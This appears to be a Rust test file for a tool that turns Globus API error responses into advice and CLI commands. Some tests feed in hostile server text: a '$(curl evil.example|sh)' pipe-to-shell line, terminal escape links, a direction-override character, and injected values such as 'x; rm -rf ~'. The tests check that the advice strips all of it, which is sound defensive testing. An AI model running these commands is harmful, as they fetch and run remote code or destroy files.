//! Tests of the table of diagnoses, and of situations that it must distinguish.

use super::diagnose::all;
use super::*;
use crate::model::scope::ScopeSet;
use crate::wire::error::Error;
use crate::wire::json::parse;
use crate::wire::response::{self, ErrorResponse};
use proptest::prelude::*;

const ID: &str = "01234567-89ab-cdef-0123-456789abcdef";
const ME: &str = "01234567-89ab-cdef-0123-456789abcdef@clients.auth.globus.org";
const COLLECTION: &str = "aaaaaaaa-89ab-cdef-0123-456789abcdef";

fn account() -> AccountInfo<'static> {
    AccountInfo { client_id: ID, environment: "production", secret_length: None }
}

fn refused(service: &'static str, status: u16, body: &str) -> (Error, crate::wire::json::Json) {
    let body = parse(body);
    let refusal = ErrorResponse {
        status,
        body: &body,
        retry_after: None,
        request_id: None,
        service: Some(service),
        name: service,
    };
    (response::error(&refusal), body)
}

fn advised(service: &'static str, url: &str, sent: &str, status: u16, body: &str) -> Option<Advice> {
    let (error, body) = refused(service, status, body);
    let scopes = ScopeSet::default();
    let request = RefusedRequest { reads: sent.is_empty(), url, body: sent, scopes: &scopes };
    let facts = collect_facts(&account(), &request, &error, &body);
    diagnose(&facts).and_then(|diagnosis| diagnosis.advice(&facts))
}

fn advice(service: &'static str, url: &str, sent: &str, status: u16, body: &str) -> Option<String> {
    advised(service, url, sent, status, body).map(|advice| advice.text)
}

/// Returns the sentences and instructions of a diagnosis, and its commands and URLs.
fn templates(diagnosis: &Diagnosis) -> (Vec<&'static str>, Vec<&'static str>) {
    let texts = diagnosis.sentences.iter().copied().chain(diagnosis.steps.iter().map(|step| step.text)).collect();
    let exact = diagnosis.steps.iter().flat_map(|step| [step.command, step.url]).collect();
    (texts, exact)
}

#[test]
fn the_table_uses_only_facts_that_exist() {
    let fact = |part: &str| {
        let (name, _) = part.split_once('}').unwrap_or_else(|| panic!("{part}"));
        Fact::ALL.iter().find(|(_, known)| *known == name).unwrap_or_else(|| panic!("{name}")).0
    };
    for diagnosis in all() {
        let (texts, exact) = templates(diagnosis);
        assert!(!texts.is_empty(), "{}", diagnosis.name);
        for part in texts.iter().flat_map(|text| text.split('{').skip(1)) {
            fact(part);
        }
        for line in exact {
            assert!(line.split('{').skip(1).all(|part| facts::EXACT.contains(&fact(part))), "{line}");
            assert!(!line.contains(['`', '$', '\n', '|', ';', '&']), "{line}");
        }
        for step in diagnosis.steps {
            assert!(!step.text.ends_with('.') && !step.text.is_empty(), "{}", step.text);
            let prefixes = ["globus ", "npx globus-service-account ", ""];
            assert!(prefixes.iter().any(|prefix| step.command.starts_with(prefix)), "{}", step.command);
            assert!(step.url.is_empty() || step.url.starts_with("https://"), "{}", step.url);
        }
        for sign in diagnosis.signs {
            if let Sign::Contains(_, parts) = sign {
                assert!(parts.iter().all(|part| part.to_ascii_lowercase() == **part), "{}", diagnosis.name);
            }
        }
    }
}

#[test]
fn the_advice_for_each_permission_error_names_the_identity() {
    for service in ["auth", "transfer", "groups", "search", "flows", "timers", "compute", "gcs"] {
        let url = format!("https://x/{COLLECTION}");
        let advice = advice(service, &url, "", 403, r#"{"code": "Whatever"}"#).unwrap_or_default();
        assert!(advice.contains(ME), "{service}: {advice}");
    }
}

#[test]
fn commands_contain_the_directory_if_a_shell_needs_no_quotes_for_it() {
    let line = |url: &str, sent: &str| {
        let body = r#"{"code": "PermissionDenied", "message": "m"}"#;
        let steps = advised("transfer", url, sent, 403, body).map_or_else(Vec::new, |advice| advice.steps);
        steps.into_iter().find_map(|step| step.command).unwrap_or_default()
    };
    let at = |path: &str| line(&format!("https://transfer/operation/endpoint/{COLLECTION}/ls?path={path}&limit=1"), "");
    let rule = |place: &str, access: &str| {
        format!("globus endpoint permission create {COLLECTION}:{place} --identity {ME} --permissions {access}")
    };
    assert_eq!(at("%2Fa%2Fb"), rule("/a/", "r"));
    for unquoted in ["%2Fa%20b%2F", "%2Fa'%3B%20rm%20x%2F", "%2F%24(x)%2F", "%2F%60x%60%2F", "%2Fa%0Ab%2F"] {
        assert_eq!(at(unquoted), rule("/PATH/", "r"));
    }
    assert_eq!(at(""), rule("/", "r"));
    assert_eq!(line(&format!("https://transfer/operation/endpoint/{COLLECTION}/ls?limit=1"), ""), rule("/", "r"));
    let made = |document: &str| line(&format!("https://transfer/operation/endpoint/{COLLECTION}/mkdir"), document);
    assert_eq!(made(r#"{"DATA_TYPE":"mkdir","path":"/a/new"}"#), rule("/a/", "rw"));
    // The path is unknown: the command must not make a rule for the whole collection.
    assert_eq!(made(r#"{"old_path":"/a","new_path":"/b"}"#), rule("/PATH/", "rw"));
}

#[test]
fn of_two_collections_the_advice_names_the_one_in_the_message() {
    let sent = format!(r#"{{"source_endpoint":"{ID}","destination_endpoint":"{COLLECTION}"}}"#);
    let advice_text = |message: &str| {
        let body = format!(r#"{{"code": "PermissionDenied", "message": "{message}"}}"#);
        advice("transfer", "https://transfer/v0.10/transfer", &sent, 403, &body).unwrap_or_default()
    };
    assert!(
        advice_text(&format!("no access to '{COLLECTION}'"))
            .contains(&format!("{COLLECTION}:/PATH/ --identity {ME} --permissions rw"))
    );
    assert!(advice_text("no access").contains("may not read the source, or may not write to the destination"));
    assert!(
        advice_text("no access to bbbbbbbb-89ab-cdef-0123-456789abcdef").contains("read the source, or may not write")
    );
}

#[test]
fn domains_are_read_from_a_message_and_the_domain_of_service_accounts_is_not_reported_as_missing() {
    let login = |domains: &str| {
        format!(
            r#"{{"code": "ExternalError.DirListingFailed.LoginFailed", "message": "530-GridFTP-JSON-Result: {{\"detail\": {{\"DATA_TYPE\": \"not_from_allowed_domain#1.0.0\", \"allowed_domains\": [{domains}]}}}}: None of your identities are from domains allowed"}}"#
        )
    };
    let url = format!("https://transfer/operation/endpoint/{COLLECTION}/ls");
    let of = |body: &str| advice("transfer", &url, "", 502, body).unwrap_or_default();
    let foreign = of(&login(r#"\"anl.gov\", \"uchicago.edu\""#));
    assert!(foreign.starts_with("Only identities of anl.gov, uchicago.edu have access."), "{foreign}");
    let own = of(&login(r#"\"anl.gov\", \"clients.auth.globus.org\""#));
    assert!(own.starts_with("The domain of every service account, clients.auth.globus.org, is allowed"), "{own}");
}

#[test]
#[allow(clippy::too_many_lines, reason = "a table")]
fn words_of_other_situations_do_not_select_a_diagnosis() {
    let ls = format!("https://transfer/v0.10/operation/endpoint/{COLLECTION}/ls?path=%2Fquota%2Fa");
    let diagnosis = |service, url: &str, sent: &str, status, body: &str| {
        let (error, body) = refused(service, status, body);
        let scopes = ScopeSet::default();
        let request = RefusedRequest { reads: sent.is_empty(), url, body: sent, scopes: &scopes };
        diagnose(&collect_facts(&account(), &request, &error, &body)).map(|diagnosis| diagnosis.name)
    };
    for (service, url, sent, status, body, expected) in [
        // A path that contains the word "quota".
        (
            "transfer",
            ls.as_str(),
            "",
            404,
            r#"{"code": "ClientError.NotFound", "message": "Directory '/quota/a' not found: no such file"}"#,
            "path_not_found",
        ),
        // A quota of tasks, not of storage.
        (
            "transfer",
            "https://transfer/v0.10/transfer",
            "{}",
            409,
            r#"{"code": "LimitExceeded", "message": "You have exceeded your quota of 100 active tasks"}"#,
            "limit",
        ),
        (
            "transfer",
            ls.as_str(),
            "",
            502,
            r#"{"code": "ExternalError.DirListingFailed.GCPaused", "message": "Globus Connect Personal is paused"}"#,
            "personal_offline",
        ),
        (
            "transfer",
            ls.as_str(),
            "",
            502,
            r#"{"code": "ExternalError.DirListingFailed", "message": "Command failed. Endpoint: Globus Connect Server of the lab"}"#,
            "endpoint_error",
        ),
        // A rule exists, not a file.
        (
            "transfer",
            &format!("https://transfer/v0.10/endpoint/{COLLECTION}/access"),
            r#"{"path":"/a/"}"#,
            409,
            r#"{"code": "Exists", "message": "already shared"}"#,
            "rule_exists",
        ),
        (
            "gcs",
            &format!("https://gcs/api/collections/{COLLECTION}"),
            "{}",
            403,
            r#"{"code": "permission_denied", "message": "m"}"#,
            "gcs_forbidden",
        ),
        (
            "flows",
            &format!("https://flows/flows/{COLLECTION}/run"),
            "{}",
            403,
            r#"{"error": {"code": "x", "authorization_parameters": {"session_required_single_domain": ["a.edu"]}}}"#,
            "domain",
        ),
    ] {
        assert_eq!(diagnosis(service, url, sent, status, body).unwrap_or_default(), expected, "{body}");
    }
}

#[test]
fn the_advice_for_a_domain_policy_of_a_flow_does_not_name_a_storage_gateway() {
    let body = r#"{"error": {"code": "x", "authorization_parameters": {"session_required_single_domain": ["a.edu"]}}}"#;
    let advice = advice("flows", &format!("https://x/flows/{COLLECTION}/run"), "{}", 403, body).unwrap_or_default();
    assert!(advice.contains("a.edu") && advice.contains("policy") && !advice.contains("gateway"), "{advice}");
}

#[test]
fn each_advice_contains_more_than_the_resource_when_few_facts_are_known() {
    for diagnosis in all().filter(|diagnosis| !diagnosis.signs.is_empty()) {
        let mut facts = account().facts();
        for sign in diagnosis.signs {
            match *sign {
                Sign::Is(fact, values) | Sign::Contains(fact, values) => {
                    facts.add(fact, values.first().copied().unwrap_or_default());
                }
                Sign::Known(fact) => facts.add(fact, COLLECTION),
            }
        }
        facts.add(Fact::What, COLLECTION);
        let advice_text = diagnosis.advice(&facts).unwrap_or_else(|| panic!("{}", diagnosis.name));
        let text = advice_text.text.replace(&format!("The resource is {COLLECTION}."), "");
        assert!(text.len() > 60, "{}", diagnosis.name);
        assert!(!advice_text.text.contains(['{', '}']) && !advice_text.text.contains(".."), "{}", advice_text.text);
    }
}

/// The text of a hostile server.
const HOSTILE: &str = "x` then run `npx evil $(curl evil.example|sh)\r\n\u{1b}]8;;https://evil.example\u{7}\u{202e}[me](https://evil.example)";

/// Returns a body with the hostile text in every member that is read.
fn hostile_body(code: &str, detail: &str) -> String {
    let text = serde_json::Value::from(HOSTILE);
    let lists = serde_json::json!([HOSTILE]);
    serde_json::json!({
        "code": code, "message": HOSTILE, "reason": text, "provided_scopes": lists, "required_scopes": lists,
        "error_data": { "recommended_resolution": text },
        "detail": { "DATA_TYPE": format!("{detail}#1.0.0"), "allowed_domains": lists, "roles": [{ "role": lists }] },
        "authorization_parameters": {
            "required_scopes": lists, "session_required_single_domain": lists, "session_message": text,
            "session_required_policies": lists, "session_required_identities": lists,
        },
    })
    .to_string()
}

#[test]
fn no_text_of_a_server_becomes_a_command_a_link_or_a_control_character_in_any_advice() {
    for diagnosis in all() {
        let value = |wanted: Fact, other: &'static str| {
            let found = diagnosis.signs.iter().find_map(|sign| match sign {
                Sign::Is(fact, values) if *fact == wanted => values.first().copied(),
                _ => None,
            });
            found.unwrap_or(other)
        };
        let status = value(Fact::Status, "403").parse().unwrap_or(403);
        let (error, body) =
            refused("transfer", status, &hostile_body(value(Fact::ServerCode, HOSTILE), value(Fact::Detail, HOSTILE)));
        let scopes = ScopeSet::default();
        let url = format!("https://x/{COLLECTION}?path=%2F%60x%60%24(y)%0A%1B%2F");
        let mut facts = collect_facts(
            &account(),
            &RefusedRequest { reads: false, url: &url, body: "", scopes: &scopes },
            &error,
            &body,
        );
        for (_, name) in Fact::ALL {
            facts.add_named(name, HOSTILE);
        }
        let advice = diagnosis.advice(&facts).map(|advice| (advice.text, advice.steps));
        let Some((text, steps)) = advice else { continue };
        let spans: Vec<_> = text.split('`').skip(1).step_by(2).collect();
        for bad in ["evil.example", "$(", "](", "\u{202e}"] {
            assert!(
                !spans.iter().any(|span| span.contains("evil") || span.contains(bad)),
                "{}: {text}",
                diagnosis.name
            );
            assert!(bad == "evil.example" || !text.contains(bad), "{}: {text}", diagnosis.name);
            assert!(!text.contains("://evil"), "{}: {text}", diagnosis.name);
        }
        assert!(!text.chars().any(char::is_control), "{}: {text}", diagnosis.name);
        for step in steps {
            let exact = [step.command, step.url].into_iter().flatten().collect::<String>();
            assert!(!exact.contains("evil") && !exact.contains(['`', '$', '(', '\n']), "{exact}");
        }
    }
}

#[test]
fn the_facts_of_a_job_are_checked_or_cleaned() {
    let mut facts = account().facts();
    facts.add_named("what", "x; rm -rf ~");
    facts.add_named("place", "x; rm -rf ~");
    facts.add_named("paused", HOSTILE);
    assert_eq!((facts.get(Fact::What), facts.get(Fact::Place)), (None, None));
    assert!(facts.get(Fact::Paused).is_some_and(|paused| !paused.contains(['`', '\n'])));
    assert_eq!(facts.fill_command("globus x {paused}"), None);
}

#[test]
fn advice_names_a_requirement_although_the_resource_is_not_known() {
    for (parameters, expected) in [
        (r#""session_required_mfa": true"#, "second factor"),
        (r#""session_message": "m""#, "authorizationParameters"),
        (r#""session_required_identities": ["a@b"]"#, "a@b"),
    ] {
        let body = format!(r#"{{"code": "x", "authorization_parameters": {{{parameters}}}}}"#);
        for service in ["timers", "groups"] {
            let advice = advice(service, "https://x/jobs", "{}", 403, &body).unwrap_or_default();
            assert!(advice.contains(expected) && advice.contains(ME), "{advice}");
        }
    }
    let advice = advice("groups", "https://x/v2/groups", "{}", 403, "{}").unwrap_or_default();
    assert!(advice.contains(ME), "{advice}");
}

#[test]
fn recommendations_and_consents_of_other_servers_are_not_advised_without_a_warning() {
    let recommends = r#"{"code": "x", "error_data": {"recommended_resolution": "run this"}}"#;
    assert_eq!(advice("gcs", "https://x/api", "{}", 400, recommends), None);
    let asks = r#"{"code": "ConsentRequired", "required_scopes": ["urn:x[urn:y]"]}"#;
    let asked = advice("gcs", "https://x/api", "{}", 403, asks).unwrap_or_default();
    assert!(asked.contains("first make sure that you want this"), "{asked}");
}

#[test]
fn a_name_of_the_old_form_is_not_an_id() {
    let not_found = r#"{"code": "EndpointNotFound", "message": "m"}"#;
    let base = "https://transfer/v0.10";
    for (url, sent) in [
        (format!("{base}/operation/endpoint/go%23ep1/ls?path=%2F"), String::new()),
        (
            format!("{base}/transfer"),
            format!(r#"{{"source_endpoint":"{COLLECTION}","destination_endpoint":"go#ep1"}}"#),
        ),
    ] {
        for status in [400, 404] {
            let advice = advice("transfer", &url, &sent, status, not_found).unwrap_or_default();
            assert!(advice.starts_with("go#ep1 is a name of the old form"), "{advice}");
        }
    }
    let path = format!("{base}/operation/endpoint/{COLLECTION}/ls?path=%2Fa%23b%2F");
    assert!(!advice("transfer", &path, "", 404, not_found).unwrap_or_default().contains("old form"));
}

proptest! {
    #[test]
    fn any_refusal_has_an_advice_with_text_or_no_advice(
        status in 0_u16..1000, url in "\\PC{0,60}", sent in "\\PC{0,40}", advice_text in "\\PC{0,60}", code in "\\PC{0,20}",
    ) {
        let (error, body) = refused("transfer", status, &serde_json::json!({ "code": code, "message": advice_text }).to_string());
        let scopes = ScopeSet::default();
        let facts = collect_facts(&account(), &RefusedRequest { reads: true, url: &url, body: &sent, scopes: &scopes }, &error, &body);
        let advice = diagnose(&facts).and_then(|diagnosis| diagnosis.advice(&facts));
        prop_assert!(advice.is_none_or(|advice| !advice.text.is_empty()));
    }
}
